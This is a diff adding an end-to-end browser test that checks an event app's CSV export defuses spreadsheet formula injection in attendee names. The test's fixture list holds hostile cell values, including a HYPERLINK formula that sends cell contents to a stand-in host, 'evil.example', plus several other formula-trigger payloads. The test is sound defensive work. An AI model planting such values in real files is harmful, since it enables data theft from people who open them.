@@ -4,6 +4,7 @@ import { after, before, describe } from 'node:test'
 import type { Browser } from 'playwright-core'
 import { lightZh, listTexts as t, posterTexts } from '@/packages/event/texts'
 import { routes } from '@/routes'
+import { parseCsv } from '@tests/builders/csv'
 import { EVENT } from '@tests/builders/events'
 import type { App } from './kit/app'
 import { startBackend, type Backend } from './kit/backend'
@@ -96,6 +97,24 @@ describe('the list of an event with 5,000 scans', () => {
     assert.equal(lines[0], t.headers.join(','))
     assert.equal(lines.length, red + 1)
     assert.ok(lines.slice(1).every((line) => line.split(',')[2] === lightZh.red && !/(^|,)[=+\-@]/.test(line)))
+    app.assertQuiet()
+  })
+
+  onOwnPhones('a name that a spreadsheet would run goes into the file as text', async () => {
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"点这里")', '+1+1', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1', '＝1+1', '\'=1', '陈"速",达']
+    const app = await atList()
+    // What no server of ours lets in; another backend may.
+    await app.page.route(/\/events\/[^/]+\/scans\?/, async (route) => {
+      const answer = await route.fetch()
+      const list: { items: object[] } = await answer.json()
+      await route.fulfill({ response: answer, json: { ...list, items: list.items.slice(0, hostile.length).map((item, at) => ({ ...item, nameMasked: hostile[at], repZh: hostile[at] })), nextCursor: null } })
+    })
+    const { bytes } = await downloaded(app, t.export)
+    const rows = parseCsv(bytes.toString('utf8').replace(/^\uFEFF/, '')).slice(1)
+    const safe = hostile.map((text) => (/^['陈]/.test(text) ? text : `'${text}`))
+    assert.deepEqual(rows.map((row) => row[1]), safe)
+    assert.deepEqual(rows.map((row) => row[3]), safe)
+    assert.ok(rows.every((row) => row.length === t.headers.length), 'no cell breaks out of its row')
     app.assertQuiet()
   })
 
